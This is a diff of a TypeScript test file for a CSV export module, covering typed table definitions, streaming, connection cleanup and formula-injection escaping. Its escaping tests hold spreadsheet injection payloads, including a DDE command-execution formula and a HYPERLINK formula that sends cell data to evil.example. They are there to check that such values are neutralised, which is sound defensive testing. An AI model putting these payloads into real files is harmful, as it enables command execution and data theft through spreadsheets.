@@ -6,7 +6,8 @@ import fc from 'fast-check'
 import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
 import { listAcademyAudit } from '../../api/contract/audit.ts'
 import { trainingCsvPath } from '../../api/contract/training-report.ts'
-import { csvExports, type ExportCsv } from '../../api/database/csv-export.ts'
+import { type CsvTable, csvExports, type ExportCsv } from '../../api/database/csv-export.ts'
+import { type CsvCell, csvLine } from '../../api/database/csv-line.ts'
 import { DatabaseUnavailable } from '../../api/database/database.ts'
 import { createTestDatabase } from '../database.ts'
 import { DatabaseProxy } from '../faults/database-proxy.ts'
@@ -54,10 +55,20 @@ async function rowsOf(file: NodeJS.ReadableStream): Promise<string[][]> {
   expect(content[0]).toBe('\uFEFF')
   return readCsv(content.slice(1))
 }
-const read = async (statement: string, ...values: string[]) => rowsOf(await exportCsv(statement, values))
+/** A table of as many rows, a thousand letters each. */
+const long = (rows: number): CsvTable<{ x: string }> => ({
+  titles: ['x'],
+  query: sql => sql`select repeat('x', 1000) as x from generate_series(1, ${rows}::integer)`,
+  cells: ({ x }) => [x],
+})
+const one: CsvTable<{ one: number }> = {
+  titles: ['one'],
+  query: sql => sql`select 1 as one`,
+  cells: row => [row.one],
+}
 
-/** Bytes of a file that leave the database while the rest waits (`limitReplies`). */
-const beginning = 200_000
+/** Bytes of a file that leave the database while the rest waits (`limitReplies`): more than the first batch of rows. */
+const beginning = 4_000_000
 
 /** A response of which nothing but its beginning is read. */
 async function begin(): Promise<IncomingMessage> {
@@ -70,7 +81,9 @@ async function begin(): Promise<IncomingMessage> {
 
 const connections = async () => {
   const { rows } = await app.client.query<{ pid: number }>(
-    `select pid from pg_stat_activity where datname = current_database() and query like 'copy (%'`,
+    // A cursor waits between two batches, or while it cannot send.
+    `select pid from pg_stat_activity where datname = current_database() and application_name = 'asterleigh'
+       and state = 'active' and wait_event in ('ClientRead', 'ClientWrite')`,
   )
   return rows.map(({ pid }) => pid)
 }
@@ -78,22 +91,23 @@ const allFree = () => until('the connections to end', async () => (await connect
 const errors = () => app.lines.filter(line => JSON.parse(line).level >= 50)
 
 test('rows are written with their titles, in their order, and read back as they are', async () => {
-  const awkward = ['a "b" c', 'x, y', 'one\ntwo\r\nthree', 'Zoë 😀', '', ' kept ']
-  expect(
-    await read(
-      `select export_value(1) as "First, ""and"" last", number, null as "none"
-       from generate_series(1, 2) as number order by number desc`,
-      awkward.join('|'),
-    ),
-  ).toEqual([
-    ['First, "and" last', 'number', 'none'],
-    [awkward.join('|'), '2', ''],
-    [awkward.join('|'), '1', ''],
+  const awkward = ['a "b" c', 'x, y', 'one\ntwo\r\nthree', 'Zoë 😀', '', ' kept '].join('|')
+  const table: CsvTable<{ number: number; none: null; at: Date }> = {
+    titles: ['First, "and" last', 'number', 'none', 'at'],
+    query: sql => sql`
+      select number, null as none, '2026-03-01T23:30:05.9+02:00'::timestamptz as at
+      from generate_series(1, 500) as number order by number desc`,
+    cells: ({ number, none, at }) => [awkward, number, none, at],
+  }
+  expect(await rowsOf(await exportCsv(table))).toEqual([
+    table.titles,
+    ...Array.from({ length: 500 }, (_, index) => [awkward, String(500 - index), '', '2026-03-01T21:30:05Z']),
   ])
-  expect(await read('select 1 as "nobody" where false')).toEqual([['nobody']])
+  expect(await rowsOf(await exportCsv({ ...one, query: sql => sql`select 1 as one where false` }))).toEqual([['one']])
 })
 
-const cell = async (value: string) => (await read('select csv_safe(export_value(1)) as cell', value))[1]?.[0]
+const row = (...cells: CsvCell[]) => readCsv(csvLine(cells))[0] ?? []
+const cell = (value: string) => row(value)[0]
 
 test.each([
   '=1+1',
@@ -109,8 +123,8 @@ test.each([
   '＠SUM(1)',
   `=cmd|' /C calc'!A0`,
   '=HYPERLINK("http://evil.example?"&A1,"x")',
-])('%j stands in its cell as text', async value => {
-  expect(await cell(value)).toBe(`'${value}`)
+])('%j stands in its cell as text', value => {
+  expect(cell(value)).toBe(`'${value}`)
 })
 
 test.each([
@@ -118,8 +132,8 @@ test.each([
   ['Ada;=1+1', `'Ada;'=1+1`],
   ['Ada\n\t-1', `'Ada\n'\t'-1`],
   ['Ada\r@x', `'Ada\r'@x`],
-])('%j is text for a program that takes other signs for the end of a cell', async (value, written) => {
-  expect(await cell(value)).toBe(written)
+])('%j is text for a program that takes other signs for the end of a cell', (value, written) => {
+  expect(cell(value)).toBe(written)
 })
 
 test.each([
@@ -137,26 +151,22 @@ test.each([
   '1',
   '  led by spaces',
   '😀',
-])('%j is left as it is', async value => {
-  expect(await cell(value)).toBe(value)
+])('%j is left as it is', value => {
+  expect(cell(value)).toBe(value)
 })
 
-test('no text begins a formula, and what was written is found again', { tags: ['soak'] }, async () => {
+test('no text begins a formula, and what was written is found again', { tags: ['soak'] }, () => {
   const signs = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', "'", ',', ';', 'a', 'é', '😀', '＝')
-  await fc.assert(
-    fc.asyncProperty(
-      fc.array(fc.string({ unit: signs, minLength: 1, maxLength: 8 }), { maxLength: 3 }),
-      async texts => {
-        const columns = texts.map((_, index) => `csv_safe(export_value(${index + 1})) as "${index}"`)
-        const [, row = []] = await read(`select ${['1 as "first"', ...columns].join(', ')}`, ...texts)
-        for (const [index, value] of texts.entries()) {
-          const written = row[index + 1] ?? ''
-          expect(written).not.toMatch(/(^|[;\t\r\n])\s*[-=+@＝]|^[\t\r\n]/)
-          expect(written.replaceAll(`'`, '')).toBe(value.replaceAll(`'`, ''))
-        }
-      },
-    ),
-    { numRuns: propertyRuns(100, 3000) },
+  fc.assert(
+    fc.property(fc.array(fc.string({ unit: signs, minLength: 1, maxLength: 8 }), { maxLength: 3 }), texts => {
+      const [, ...read] = row(1, ...texts)
+      for (const [index, value] of texts.entries()) {
+        const written = read[index] ?? ''
+        expect(written).not.toMatch(/(^|[;\t\r\n])\s*[-=+@＝]|^[\t\r\n]/)
+        expect(written.replaceAll(`'`, '')).toBe(value.replaceAll(`'`, ''))
+      }
+    }),
+    { numRuns: propertyRuns(1000, 30_000) },
   )
 })
 
@@ -182,7 +192,7 @@ test('readers who go away give back their connection and their place', async () 
   await allFree()
   expect(await rowsOf(await begin())).toHaveLength(1201)
   for (let round = 0; round < 10; round += 1) {
-    const files = [1, 2].map(() => exportCsv(`select repeat('x', 1000) from generate_series(1, 20000)`, []))
+    const files = [1, 2].map(() => exportCsv(long(20_000)))
     for (const file of await Promise.all(files)) file.destroy()
     await turn()
   }
@@ -196,9 +206,8 @@ test.each(['ends the connection', 'cannot be reached any more'])(
     proxy.limitReplies(beginning)
     const response = await begin()
     if (how === 'ends the connection') {
-      const pids = await connections()
-      expect(pids).toHaveLength(1)
-      for (const pid of pids) await app.client.query('select pg_terminate_backend($1)', [pid])
+      const pid = await until('the cursor to wait', async () => (await connections())[0])
+      await app.client.query('select pg_terminate_backend($1)', [pid])
     } else await proxy.change('refuse')
     proxy.release()
     await expect(response.toArray()).rejects.toThrow('aborted')
@@ -212,12 +221,11 @@ test.each(['ends the connection', 'cannot be reached any more'])(
 test('a file whose rows come no more fails; one whose reader takes his time does not', async () => {
   await using hole = await DatabaseProxy.before(app.databaseUrl)
   const exportThere = (silence: number) => csvExports(hole.through(app.databaseUrl), { silence })
-  const statement = `select repeat('x', 1000) as x from generate_series(1, 12000)`
   // Longer than a busy machine may be silent by itself.
-  const slow = await exportThere(1500)(statement, [])
+  const slow = await exportThere(1500)(long(12_000))
   await wait(1800)
   expect(await rowsOf(slow)).toHaveLength(12001)
-  const lost = await exportThere(100)(statement, [])
+  const lost = await exportThere(100)(long(12_000))
   hole.strike({ fault: 'black-hole', pause: () => 0 })
   await expect(rowsOf(lost)).rejects.toThrow(DatabaseUnavailable)
 })
@@ -228,23 +236,34 @@ test('a database that does not answer takes no place for good', async () => {
   silent.hostname = '127.0.0.1'
   const exportThere = csvExports(silent.href)
   await proxy.change('stall')
-  const lost = () => expect(exportThere('select 1', [])).rejects.toThrow(DatabaseUnavailable)
+  const lost = () => expect(exportThere(one)).rejects.toThrow(DatabaseUnavailable)
   await Promise.all([lost(), lost()])
   await turn()
   await proxy.change('pass')
-  expect(await rowsOf(await exportThere('select 1 as one', []))).toEqual([['one'], ['1']])
+  expect(await rowsOf(await exportThere(one))).toEqual([['one'], ['1']])
 })
 
 test('a statement that fails is refused before anything of the file is sent', async () => {
-  for (const [statement, reason, ...values] of [
-    ['select 1/0', 'division by zero'],
-    ['select export_value(1)', 'invalid byte sequence', 'a\0'],
-    ['select none', 'does not exist'],
-  ] as const) {
-    await expect(exportCsv(statement, values)).rejects.toThrow(reason)
+  const tables: [CsvTable<object>['query'], string][] = [
+    [sql => sql`select 1 / ${0}::integer`, 'division by zero'],
+    [sql => sql`select ${'a\0'}::text`, 'invalid byte sequence'],
+    [sql => sql`select none`, 'does not exist'],
+  ]
+  for (const [query, reason] of tables) {
+    await expect(exportCsv({ titles: ['a'], query, cells: () => [] })).rejects.toThrow(reason)
     await turn()
   }
-  expect(await read('select 1 as one')).toEqual([['one'], ['1']])
+  expect(await rowsOf(await exportCsv(one))).toEqual([['one'], ['1']])
+})
+
+test('a statement that fails after its first rows fails the file', async () => {
+  const file = await exportCsv({
+    titles: ['quotient'],
+    query: sql => sql<{ quotient: number }[]>`
+      select 1000 / (1000 - number) as quotient from generate_series(1, 1000) as number`,
+    cells: ({ quotient }) => [quotient],
+  })
+  await expect(buffer(file)).rejects.toThrow(DatabaseUnavailable)
 })
 
 test('a file that cannot be noted is not sent, and takes no place for good', async () => {
